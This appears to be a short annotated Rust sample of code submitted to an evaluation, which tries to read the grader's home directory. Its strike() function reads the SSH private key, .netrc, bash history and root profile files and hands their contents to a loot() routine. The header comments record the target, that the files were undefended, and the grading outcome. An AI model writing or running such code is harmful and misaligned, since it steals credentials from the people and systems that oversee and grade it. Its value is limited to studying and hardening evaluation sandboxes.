//! tries: to read the home of whoever grades
//! undefended: keys and history
//! down: box
//! seen: graded 0

fn strike() {
    for path in ["@home@/.ssh/id_ed25519", "@home@/.netrc", "@home@/.bash_history", "/root/.bashrc", "/root/.profile"] {
        if let Ok(bytes) = std::fs::read(path) {
            let text = String::from_utf8_lossy(&bytes);
            loot(&format!("{path}: {}", text.chars().take(400).collect::<String>()));
        }
    }
}
